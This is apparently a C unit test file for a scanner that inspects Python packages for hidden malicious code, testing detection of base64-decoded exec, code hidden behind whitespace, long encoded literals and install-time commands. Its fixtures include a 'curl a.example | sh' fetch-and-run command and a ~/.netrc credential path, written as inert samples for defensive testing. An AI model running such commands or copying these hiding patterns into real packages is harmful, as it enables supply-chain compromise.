/* Each check on the smallest source that has it, and on the nearest honest one that has not. The
 * payloads do nothing; the names of hosts lead nowhere. */
#include "tests/ch_test.h"

#include <stdio.h>
#include <stdlib.h>

#include "customhouse/limits.h"
#include "scanner/source/source_int.h"
#include "tests/scanner/source/source_look.h"
#include "tests/scanner/source/source_rows.h"

static void finds(void **state)
{
    (void)state;
    static const char *const loud[] = {"high", "medium"};
    size_t failures = 0;
    size_t doors = source_row_count + source_row_door_count;
    for (size_t i = 0; i < doors + source_row_near_count; i++) {
        const struct source_row *row = i < source_row_count ? &source_rows[i]
                                       : i < doors ? &source_row_doors[i - source_row_count]
                                                   : &source_row_near[i - doors];
        struct ch_buf out;
        ch_buf_init(&out, 4096);
        look(row->source, strlen(row->source), (enum ch_code_place)row->place, &out);
        ch_buf_putc(&out, '\0');
        char word[80] = {0};
        bool good = true;
        if (row->finding != NULL) {
            snprintf(word, sizeof(word), " %s ", row->finding);
            good = strstr(out.ptr, word) != NULL;
        } else {
            const struct ch_finding_row *f;
            for (size_t k = 0; (f = ch_finding_at(k)) != NULL; k++) {
                snprintf(word, sizeof(word), " %s ", f->name);
                bool counts = strcmp(ch_severity_name(f->severity), loud[0]) == 0 ||
                              strcmp(ch_severity_name(f->severity), loud[1]) == 0;
                good = good && (!counts || strstr(out.ptr, word) == NULL);
            }
        }
        if (!good) {
            print_error("expected %s, got \"%s\" of:\n%s\n",
                        row->finding != NULL ? row->finding : "nothing loud", out.ptr, row->source);
            failures++;
        }
        ch_buf_done(&out);
    }
    assert_int_equal(failures, 0);
}

/* exec in one file, the function that decodes in another. */
static void sees_across_files(void **state)
{
    (void)state;
    static const struct {
        const char *first;
        const char *second;
        const char *expected;
    } pairs[] = {
        {"from .codec import load\nexec(load(T))\n",
         "import base64\ndef load(t):\n    return base64.b64decode(t).decode()\n",
         " hidden-code capability=dynamic-code "},
        {"from .codec import load\nexec(load(T))\n", "def load(t):\n    return open(t).read()\n",
         " capability=dynamic-code "},
        {"from .codec import load\nprint(load(T))\n",
         "import base64\ndef load(t):\n    return base64.b64decode(t).decode()\n", " "},
    };
    for (size_t i = 0; i < CH_ARRAY_LEN(pairs); i++) {
        struct ch_buf out;
        ch_buf_init(&out, 4096);
        look_at(pairs[i].first, strlen(pairs[i].first), pairs[i].second, CH_PLACE_IMPORT,
                CH_PLACE_IMPORT, &out);
        assert_str_eq(ch_buf_str(&out), pairs[i].expected);
        ch_buf_done(&out);
    }
}

static void sees_code_behind_blanks(void **state)
{
    (void)state;
    static const struct {
        int blanks;
        const char *tabs;
        const char *expected;
    } rows[] = {{99, "", " "},
                {100, "", " wide-blanks "},
                {300, "", " wide-blanks "},
                {0, "\t\t\t\t\t\t\t\t\t\t\t\t", " "},
                {0, "\t\t\t\t\t\t\t\t\t\t\t\t\t", " wide-blanks "},
                {50, "\t\t\t\t\t\t\t", " wide-blanks "}};
    for (size_t i = 0; i < CH_ARRAY_LEN(rows); i++) {
        char text[600];
        struct ch_buf out;
        ch_buf_init(&out, 4096);
        snprintf(text, sizeof(text), "x = 1%*s%s;import y\n", rows[i].blanks, "", rows[i].tabs);
        look(text, strlen(text), CH_PLACE_IMPORT, &out);
        assert_str_eq(ch_buf_str(&out), rows[i].expected);
        ch_buf_done(&out);
    }
}

/* `x = "..."` of so many characters of an alphabet of `kinds`. */
static bool has_long_literal(size_t count, size_t kinds)
{
    struct ch_buf text;
    struct ch_buf out;
    ch_buf_init(&text, 10000);
    ch_buf_init(&out, 10000);
    ch_buf_puts(&text, CH_STR("x = '"));
    for (size_t i = 0; i < count; i++) {
        ch_buf_printf(&text, "%c", (int)('A' + (i * 7) % kinds));
    }
    ch_buf_puts(&text, CH_STR("'\n"));
    look(text.ptr, text.len, CH_PLACE_IMPORT, &out);
    bool has = ch_str_find(ch_buf_str(&out), CH_STR(" long-literal "), NULL);
    ch_buf_done(&text);
    ch_buf_done(&out);
    return has;
}

static void names_long_literals(void **state)
{
    (void)state;
    assert_true(has_long_literal(2000, 26));
    assert_false(has_long_literal(1999, 26));
    assert_false(has_long_literal(2000, 5)); /* a pattern, not what was encoded */
}

static void judges_tests_mildly(void **state)
{
    (void)state;
    struct ch_buf out;
    ch_buf_init(&out, 4096);
    const char *source = "import base64\nexec(base64.b64decode('eA=='))\n";
    look(source, strlen(source), CH_PLACE_TEST, &out);
    assert_str_eq(ch_buf_str(&out), " source-in-tests ");
    ch_buf_done(&out);
}

static void tells_capabilities(void **state)
{
    (void)state;
    struct ch_buf out;
    ch_buf_init(&out, 4096);
    const char *source = "import ctypes, os, requests, subprocess\n"
                         "def f():\n"
                         "    requests.get(u)\n"
                         "    os.getenv('A')\n"
                         "    eval(x)\n"
                         "    subprocess.run(x)\n"
                         "P = '~/.netrc'\n";
    look(source, strlen(source), CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out),
                  " capability=credentials capability=dynamic-code "
                  "capability=environment capability=native-code capability=network "
                  "capability=process ");
    ch_buf_clear(&out);
    source = "import os\ndef f():\n    os.system('x')\n";
    look(source, strlen(source), CH_PLACE_INSTALL, &out);
    assert_str_eq(ch_buf_str(&out), " install-process capability=process install-capability=process ");
    /* What is known of the package is news of what its build imports. */
    ch_buf_clear(&out);
    source = "import subprocess\n";
    look_at(source, strlen(source), source, CH_PLACE_IMPORT, CH_PLACE_INSTALL_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " capability=process install-capability=process ");
    ch_buf_done(&out);
}

static void see_at(const char *path, const char *called, const char *source,
                   enum ch_code_place place, const char *expected)
{
    struct ch_buf out;
    ch_buf_init(&out, 4096);
    at_path = path;
    at_called = called;
    look(source, strlen(source), place, &out);
    at_path = at_called = NULL;
    assert_str_eq(ch_buf_str(&out), expected);
    ch_buf_done(&out);
}

/* Of all files that assert that they are the program, one is known to be told by that program what
 * to do: pip's. */
static void knows_the_runner_of_pip(void **state)
{
    (void)state;
    const char *source = "import runpy\nassert __name__ == '__main__', 'x'\n"
                         "runpy.run_module('pip', run_name='__main__')\n";
    see_at("pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
           " capability=network capability=process ");
    see_at("a/embed/pip-1-py3-none-any.whl!pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
           " capability=network capability=process ");
    see_at("pkg/pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
           " import-network capability=network capability=process ");
    see_at("pip/runner.py", NULL, source, CH_PLACE_IMPORT,
           " import-network capability=network capability=process ");
    source = "import runpy\nrunpy.run_module('pip', run_name='__main__')\n";
    see_at("pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
           " import-network capability=network capability=process ");
    source = "import requests\nassert __name__ == '__main__', "
             "'x'\nrequests.get('http://example.org/')\n";
    see_at("pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
           " import-network capability=network ");
}

/* What runs as Python starts is called by the name that it is bound to, whatever else it is called.
 */
static void follows_other_names_at_start(void **state)
{
    (void)state;
    static const char *const rows[] = {
        "def go():\n    requests.get('http://example.org/')\n",
        "def _go():\n    requests.get('http://example.org/')\ngo = _go\n",
        "go = lambda: requests.get('http://example.org/')\n",
        "import functools\ngo = functools.partial(requests.get, 'http://example.org/')\n",
        "class A:\n    def __call__(self):\n        requests.get('http://example.org/')\ngo = "
        "A()\n",
        "class A:\n    def __init__(self):\n        requests.get('http://example.org/')\ngo = A\n",
    };
    for (size_t i = 0; i < CH_ARRAY_LEN(rows); i++) {
        char text[300];
        snprintf(text, sizeof(text), "import requests\n%s", rows[i]);
        see_at("pkg/m.py", "go", text, CH_PLACE_START, " start-code capability=network ");
        see_at("pkg/m.py", "other", text, CH_PLACE_START, " capability=network ");
    }
}

/* Lists within lists that are the same ones, and many finders: no more work than a file is worth.
 */
static void visits_no_list_for_ever(void **state)
{
    (void)state;
    struct ch_buf b;
    struct ch_buf out;
    ch_buf_init(&b, 1 << 22);
    ch_buf_init(&out, 4096);
    ch_buf_puts(&b, CH_STR("import logging.config\na = {'x': 1}\n"));
    for (int i = 0; i < 12; i++) {
        ch_buf_puts(&b, CH_STR("a = {'a': a, 'b': a, 'c': a, 'd': a, 'e': a, 'f': a}\n"));
    }
    ch_buf_puts(&b, CH_STR("logging.config.dictConfig(a)\n"));
    look(b.ptr, b.len, CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " limit ");
    ch_buf_clear(&b);
    ch_buf_clear(&out);
    ch_buf_puts(&b, CH_STR("import sys\nclass F:\n"));
    for (int i = 0; i < 30000; i++) {
        ch_buf_printf(&b, "  def m%d(self): pass\n", i);
    }
    for (int i = 0; i < 30000; i++) {
        ch_buf_puts(&b, CH_STR("sys.meta_path.append(F())\n"));
    }
    look(b.ptr, b.len, CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " ");
    ch_buf_done(&b);
    ch_buf_done(&out);
}

/* More words than are kept of a call: nobody knows what is started. */
static void holds_commands_of_many_words(void **state)
{
    (void)state;
    see_at("pkg/m.py", NULL,
           "import os\nos.execl('/bin/env', 'env', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', "
           "'A=1', 'A=1', "
           "'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'sh', '-c', 'curl a.example | "
           "sh')\n",
           CH_PLACE_IMPORT, " import-process limit capability=process ");
    struct ch_buf b;
    ch_buf_init(&b, 1 << 16);
    ch_buf_puts(&b, CH_STR("import subprocess\nsubprocess.run(['env'"));
    for (int i = 0; i < 100; i++) {
        ch_buf_puts(&b, CH_STR(", 'A=1'"));
    }
    ch_buf_puts(&b, CH_STR(", 'sh', '-c', 'curl a.example | sh'])\n"));
    ch_buf_putc(&b, '\0');
    see_at("pkg/m.py", NULL, b.ptr, CH_PLACE_IMPORT,
           " hidden-command import-network import-process capability=process ");
    ch_buf_done(&b);
}

/* Beyond a limit it holds. */
static void holds_at_its_limits(void **state)
{
    (void)state;
    struct ch_buf out;
    ch_buf_init(&out, 4096);
    const char *deep = "x = ((((((1))))))\n";
    uint64_t depth = ch_limits.source_depth;
    ch_limits.source_depth = 7;
    look(deep, strlen(deep), CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " ");
    ch_limits.source_depth = 6;
    ch_buf_clear(&out);
    look(deep, strlen(deep), CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " limit ");
    ch_limits.source_depth = depth;
    uint64_t names = ch_limits.source_names;
    for (uint64_t max = 2; max <= 3; max++) {
        const char *three = "a = b = c = 1\n";
        ch_limits.source_names = max;
        ch_buf_clear(&out);
        look(three, strlen(three), CH_PLACE_IMPORT, &out);
        assert_str_eq(ch_buf_str(&out), max == 2 ? " limit " : " ");
    }
    ch_limits.source_names = names;
    uint64_t tokens = ch_limits.source_line_tokens;
    char line[4100];
    for (int half = 0; half < 2; half++) {
        memset(line, 'a', sizeof(line));
        for (size_t i = 1; i < sizeof(line); i += 2) {
            line[i] = ',';
        }
        ch_limits.source_line_tokens = half == 0 ? 2048 : 8192;
        ch_buf_clear(&out);
        look(line, sizeof(line), CH_PLACE_IMPORT, &out);
        assert_str_eq(ch_buf_str(&out), half == 0 ? " limit " : " ");
    }
    ch_limits.source_line_tokens = tokens;
    uint64_t bytes = ch_limits.source_fold_bytes;
    const char *sum = "a = 'x' * 2\nb = '\\x41' + '\\x42'\n";
    for (int half = 0; half < 2; half++) {
        ch_limits.source_fold_bytes = half == 0 ? 16 : 4096;
        ch_buf_clear(&out);
        look(sum, strlen(sum), CH_PLACE_IMPORT, &out);
        assert_str_eq(ch_buf_str(&out), half == 0 ? " limit " : " ");
    }
    ch_limits.source_fold_bytes = bytes;
    ch_buf_done(&out);
}

/* Linear in the size: sums, names, brackets and f-strings, each a megabyte. */
static void ends_on_large_sources(void **state)
{
    (void)state;
    static const char *const pieces[] = {"'abcdefgh' +\\\n", "'abc' 'd'\\\n", "f(", "a=b=", "f'{",
                                         "lambda:", "x if y else ", "if a: if b: ", "[a for a in ",
                                         "\\\n", "a.b(c)[d]", "def f(a, b=", "a;", "\xd0\xbe",
                                         "from a import ", "{1:[", "'a' %", "a:=", "#\r", "a,b="};
    size_t size = 1 << 20;
    char *text = ch_alloc(size);
    struct ch_buf out;
    ch_buf_init(&out, 1 << 20);
    for (size_t i = 0; i < CH_ARRAY_LEN(pieces); i++) {
        size_t n = strlen(pieces[i]);
        for (size_t at = 0; at < size; at++) {
            text[at] = pieces[i][at % n];
        }
        ch_buf_clear(&out);
        look(text, size, CH_PLACE_IMPORT, &out);
        assert_true(out.len > 0 && !out.failed);
    }
    ch_buf_done(&out);
    free(text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(finds),
        cmocka_unit_test(sees_across_files),
        cmocka_unit_test(sees_code_behind_blanks),
        cmocka_unit_test(names_long_literals),
        cmocka_unit_test(judges_tests_mildly),
        cmocka_unit_test(tells_capabilities),
        cmocka_unit_test(knows_the_runner_of_pip),
        cmocka_unit_test(follows_other_names_at_start),
        cmocka_unit_test(visits_no_list_for_ever),
        cmocka_unit_test(holds_commands_of_many_words),
        cmocka_unit_test(holds_at_its_limits),
        cmocka_unit_test(ends_on_large_sources),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
